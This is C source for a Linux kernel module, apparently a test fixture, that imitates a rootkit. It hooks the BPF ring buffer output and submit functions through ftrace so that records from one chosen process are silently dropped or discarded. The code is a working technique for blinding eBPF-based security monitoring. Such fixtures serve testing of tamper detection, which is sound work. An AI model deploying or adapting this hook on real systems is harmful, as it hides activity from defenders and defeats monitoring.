//go:build ignore

/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/*
 * A module that makes the records of BPF programs vanish as rootkits do: it hooks
 * functions of the BPF ring buffer with ftrace. It does so for one process only, while it
 * is loaded. For amd64.
 */
#include "module.h"

/* Build sets these. */
volatile unsigned long victim = 1;      /* the process */
volatile unsigned long pid_tgid = 1;    /* address of bpf_get_current_pid_tgid */
volatile unsigned long output = 1;      /* of bpf_ringbuf_output */
volatile unsigned long submit = 1;      /* of bpf_ringbuf_submit */
volatile unsigned long discard = 1;     /* of bpf_ringbuf_discard, whose arguments are the same */

#define IP 16         /* index of ip in the registers */
#define SAVE_REGS 4   /* FTRACE_OPS_FL_SAVE_REGS, include/linux/ftrace.h */
#define IPMODIFY 4096 /* FTRACE_OPS_FL_IPMODIFY */

/* The beginning of the kernel's struct ftrace_ops, and room for the rest. */
struct ops {
	void (*func)(unsigned long ip, unsigned long parent, struct ops *ops, unsigned long *regs);
	struct ops *next;
	unsigned long flags;
	unsigned long instead; /* private: the function to run instead */
	char rest[4096];
};

extern int register_ftrace_function(struct ops *ops);
extern int unregister_ftrace_function(struct ops *ops);
extern int ftrace_set_filter_ip(struct ops *ops, unsigned long ip, int remove, int reset);

static void hook(unsigned long ip, unsigned long parent, struct ops *ops, unsigned long *regs)
{
	unsigned long (*current_pid_tgid)(void) = (unsigned long (*)(void))pid_tgid;

	if (current_pid_tgid() >> 32 == victim)
		regs[IP] = ops->instead;
}

static struct ops of_output = { .func = hook, .flags = SAVE_REGS | IPMODIFY };
static struct ops of_submit = { .func = hook, .flags = SAVE_REGS | IPMODIFY };

static long succeed(void)
{
	return 0;
}

static int install(struct ops *ops, unsigned long function, unsigned long instead)
{
	ops->instead = instead;
	if (ftrace_set_filter_ip(ops, function, 0, 0))
		return -2; /* -ENOENT: the kernel does not trace the function */
	return register_ftrace_function(ops);
}

int init_module(void)
{
	int err = install(&of_output, output, (unsigned long)succeed);

	if (err)
		return err;
	err = install(&of_submit, submit, discard);
	if (err)
		unregister_ftrace_function(&of_output);
	return err;
}

void cleanup_module(void)
{
	unregister_ftrace_function(&of_submit);
	unregister_ftrace_function(&of_output);
}
